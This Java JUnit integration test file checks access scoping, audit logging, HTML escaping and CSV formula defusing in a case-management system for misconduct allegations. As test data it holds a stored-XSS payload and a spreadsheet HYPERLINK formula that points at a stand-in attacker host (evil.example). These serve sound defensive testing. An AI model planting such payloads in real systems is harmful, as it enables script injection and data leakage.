package org.blueledger.security.matrix;

import jakarta.json.JsonObject;
import org.blueledger.testsupport.Api;
import org.blueledger.testsupport.ClientTest;
import org.blueledger.testsupport.WebSession;
import org.junit.jupiter.api.Test;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Supplier;

import static org.blueledger.testsupport.Api.PASSWORD;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * IDOR: staff of another mission and the liaison of another state walk a case's reference
 * through every endpoint and page; each attempt answers 404, exactly like a missing case, and
 * writes exactly one DENIED entry to the audit trail. Stored script in a summary is shown as
 * text, never run.
 */
class OutOfScopeAccessIT extends ClientTest {

    @Test
    void everyPathToAnotherMissionsCaseAnswers404AndIsAuditedOnce() {
        String owner = api.newAccount("idor-co", "CONDUCT_OFFICER", "UNMISS", null);
        JsonObject c = api.filed("""
                {"mission":"UNMISS","receivedOn":"2021-06-01","kind":"SEA","seaType":"SEXUAL_ABUSE","source":"HOTLINE",
                 "summary":"confidential summary","subjects":[{"personnelCategory":"MILITARY_CONTINGENT","nationality":"NPL","sex":"MALE"}],
                 "victims":[{"sex":"FEMALE","ageGroup":"ADULT","name":"V"}]}""", owner);
        String ref = c.getString("reference");
        long victim = c.getJsonArray("victims").getJsonObject(0).getJsonNumber("id").longValue();
        Api.Response attached = api.postBytes("/api/v1/allegations/" + ref + "/attachments?kind=EVIDENCE&fileName=a.pdf",
                "%PDF-1.4 test file body".getBytes(), "application/octet-stream", owner, PASSWORD);
        assertEquals(201, attached.status(), attached.body());
        long attachment = attached.json().getJsonNumber("id").longValue();

        String officer = api.newAccount("idor-minusca", "CONDUCT_OFFICER", "MINUSCA", null);
        String chief = api.newAccount("idor-chief", "CHIEF_OF_CONDUCT", "MINUSCA", null);
        String liaison = api.newAccount("idor-zaf", "MEMBER_STATE_LIAISON", null, "ZAF");
        String auditor = api.newAccount("idor-auditor", "AUDITOR", null, null);
        String body = c.toString();
        String base = "/api/v1/allegations/" + ref;

        Map<String, Supplier<Integer>> attempts = new LinkedHashMap<>();
        attempts.put("officer GET case", () -> api.get(base, officer, PASSWORD).status());
        attempts.put("officer PUT case", () -> api.put(base, body, officer, PASSWORD).status());
        attempts.put("officer POST status", () -> api.post(base + "/status",
                "{\"status\":\"UNDER_INVESTIGATION\",\"version\":" + c.getInt("version") + "}", officer, PASSWORD).status());
        attempts.put("officer POST attachment", () -> api.postBytes(base + "/attachments?kind=EVIDENCE&fileName=b.pdf",
                "%PDF-1.4 another body".getBytes(), "application/octet-stream", officer, PASSWORD).status());
        attempts.put("officer GET attachment", () -> api.get(base + "/attachments/" + attachment, officer, PASSWORD).status());
        attempts.put("chief GET case", () -> api.get(base, chief, PASSWORD).status());
        attempts.put("chief POST assignment", () -> api.post(base + "/assignments",
                "{\"username\":\"" + officer + "\",\"role\":\"CONDUCT_OFFICER\"}", chief, PASSWORD).status());
        attempts.put("chief DELETE assignment", () -> api.delete(base + "/assignments/" + owner, chief, PASSWORD).status());
        attempts.put("chief GET viewers", () -> api.get(base + "/viewers", chief, PASSWORD).status());
        attempts.put("chief POST erasure", () -> api.post(base + "/victims/" + victim + "/erasure",
                "{\"reason\":\"x\"}", chief, PASSWORD).status());
        attempts.put("chief closes", () -> api.post(base + "/status",
                "{\"status\":\"CLOSED_OTHER\",\"reason\":\"x\",\"version\":" + c.getInt("version") + "}", chief, PASSWORD).status());
        attempts.put("liaison GET case", () -> api.get(base, liaison, PASSWORD).status());
        attempts.put("officer page case", () -> WebSession.signIn(api.base(), officer, PASSWORD)
                .get("/allegation/view.xhtml?ref=" + ref).statusCode());
        attempts.put("liaison page case", () -> WebSession.signIn(api.base(), liaison, PASSWORD)
                .get("/allegation/view.xhtml?ref=" + ref).statusCode());

        for (Map.Entry<String, Supplier<Integer>> attempt : attempts.entrySet()) {
            long before = denied(api, auditor, ref);
            assertEquals(404, attempt.getValue().get(), attempt.getKey());
            assertEquals(before + 1, denied(api, auditor, ref), attempt.getKey() + " writes exactly one DENIED entry");
        }
        JsonObject still = api.get(base, owner, PASSWORD).json();
        assertEquals("PRELIMINARY_ASSESSMENT", still.getString("status"), "nothing changed");
        assertEquals(c.getInt("version"), still.getInt("version"));
        assertEquals(1, still.getJsonArray("attachments").size());
        assertEquals(1, still.getJsonArray("assignments").size());
    }

    @Test
    void aStoredScriptInASummaryIsShownAsTextAndNeverRuns() {
        String officer = api.newAccount("xss-co", "CONDUCT_OFFICER", "UNMISS", null);
        String payload = "<script>alert('x')</script><img src=x onerror=alert(1)>";
        JsonObject filed = api.filed("""
                {"mission":"UNMISS","receivedOn":"2021-06-01","kind":"OTHER_MISCONDUCT","seriousness":"NON_SERIOUS",
                 "source":"EMAIL","summary":"%s","location":"%s"}""".formatted(payload.replace("\"", "\\\""),
                payload.replace("\"", "\\\"")), officer);
        assertEquals(payload, filed.getString("summary"), "the API returns the text as stored, as JSON");
        String page = WebSession.signIn(api.base(), officer, PASSWORD)
                .get("/allegation/view.xhtml?ref=" + filed.getString("reference")).body();
        assertFalse(page.contains("<script>alert('x')</script>"), "no raw script in the page");
        assertFalse(page.contains("<img src=x onerror"), "no raw markup in the page");
        assertTrue(page.contains("&lt;script&gt;alert("), "the summary is escaped text");
    }

    @Test
    void aFormulaInASummaryIsDefusedInTheCsvExportWhichIsScopedAndAudited() {
        String officer = api.newAccount("csv-co", "CONDUCT_OFFICER", "UNAMID", null);
        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
        JsonObject filed = api.filed("""
                {"mission":"UNAMID","receivedOn":"2019-06-01","kind":"OTHER_MISCONDUCT","seriousness":"NON_SERIOUS",
                 "source":"EMAIL","summary":%s,"location":"@SUM(1+1)"}""".formatted(jakarta.json.Json.createValue(formula)), officer);
        String ref = filed.getString("reference");
        Api.Response csv = api.get("/api/v1/allegations/export?mission=UNAMID", officer, PASSWORD);
        assertEquals(200, csv.status(), csv.body());
        assertTrue(csv.contentType().startsWith("text/csv"), csv.contentType());
        String line = csv.body().lines().filter(l -> l.startsWith("\"" + ref + "\"")).findFirst().orElseThrow();
        assertTrue(line.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\""), line);
        assertTrue(line.contains("\"'@SUM(1+1)\""), line);
        String other = api.newAccount("csv-other", "CONDUCT_OFFICER", "UNMISS", null);
        assertFalse(api.get("/api/v1/allegations/export", other, PASSWORD).body().contains(ref), "scoped like the list");
        String auditor = api.newAccount("csv-auditor", "AUDITOR", null, null);
        assertTrue(api.get("/api/v1/audit?action=EXPORT&user=" + officer, auditor, PASSWORD).json()
                .getJsonNumber("total").longValue() >= 1);
    }

    private static long denied(Api api, String auditor, String ref) {
        Api.Response r = api.get("/api/v1/audit?outcome=DENIED&reference=" + ref + "&size=1", auditor, PASSWORD);
        assertEquals(200, r.status(), r.body());
        return r.json().getJsonNumber("total").longValue();
    }
}
